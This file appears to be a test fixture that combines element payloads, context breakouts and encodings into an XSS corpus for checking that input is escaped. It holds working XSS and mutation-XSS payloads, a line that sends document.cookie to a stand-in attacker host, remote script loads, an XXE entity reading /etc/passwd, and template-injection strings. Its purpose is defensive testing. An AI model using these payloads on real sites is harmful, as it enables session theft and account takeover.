/** What an attacker would have run; represented by `alert`. */
const CODE = [
  'alert(1)',
  'alert`1`',
  'fetch("//evil.example?"+document.cookie)',
  'eval(atob("YWxlcnQoMSk="))',
]

/** Markup that runs code without interaction. */
const ELEMENTS = [
  '<script>CODE</script>',
  '<ScRiPt>CODE</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script type="application/ld+json">{"@type":"Recipe"}</script>',
  '<script>CODE//',
  '<img src=x onerror=CODE>',
  '<img src=x onerror="CODE" style="position:fixed">',
  '<svg onload=CODE>',
  '<svg><script>CODE</script></svg>',
  '<svg><style><img src=x onerror=CODE></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=CODE>',
  '<iframe src="javascript:CODE"></iframe>',
  '<iframe srcdoc="<script>CODE</script>"></iframe>',
  '<object data="javascript:CODE"></object>',
  '<embed src="javascript:CODE">',
  '<a href="javascript:CODE">x</a>',
  '<form action="javascript:CODE"><button>x</button></form>',
  '<button formaction="javascript:CODE" form=x>x</button>',
  '<input autofocus onfocus=CODE>',
  '<details open ontoggle=CODE>',
  '<video><source onerror=CODE></video>',
  '<audio src=x onerror=CODE>',
  '<body onload=CODE>',
  '<marquee onstart=CODE>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style>*{background:url("//evil.example")}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=canonical href=//evil.example/>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:CODE">',
  '<meta property="og:image" content="//evil.example/x.png">',
  '<template><script>CODE</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=CODE>">',
  '<xmp><p title="</xmp><img src=x onerror=CODE>">',
  '<!--><img src=x onerror=CODE>-->',
  '<!--<script>',
  '<![CDATA[<script>CODE</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '<plaintext>',
  '<textarea autofocus onfocus=CODE>',
]

/** Escapes from the context of a text: an attribute, an element, a script, JSON, a comment, XML. */
const BREAKOUTS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</title>',
  '</script>',
  '"}</script>',
  '-->',
  '</loc>',
  '\\"',
  '\u2028',
]

const OTHERS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '＜script＞alert(1)＜/script＞',
  '"onmouseover="alert(1)',
  "'onmouseover='alert(1)",
  '" autofocus onfocus=alert(1) x="',
  '`onmouseover=alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '{% raw %}{{7*7}}{% endraw %}',
  '__proto__',
  '\u202e<script>alert(1)</script>',
  '<\u0000script>alert(1)</script>',
  '<scr\u00adipt>alert(1)</scr\u00adipt>',
  "$&$`$'$1",
]

/** Texts that run code wherever they are taken for markup; each must be treated as plain text. */
export const XSS_CORPUS: readonly string[] = [
  ...new Set([
    // Every other pair, which still has each element with six escapes, and each escape with twenty elements.
    ...ELEMENTS.flatMap((element, row) =>
      BREAKOUTS.filter((_, column) => (row + column) % 2 === 0).map(
        (out, index) => out + element.replaceAll('CODE', CODE[index % CODE.length] ?? ''),
      ),
    ),
    ...OTHERS,
  ]),
]
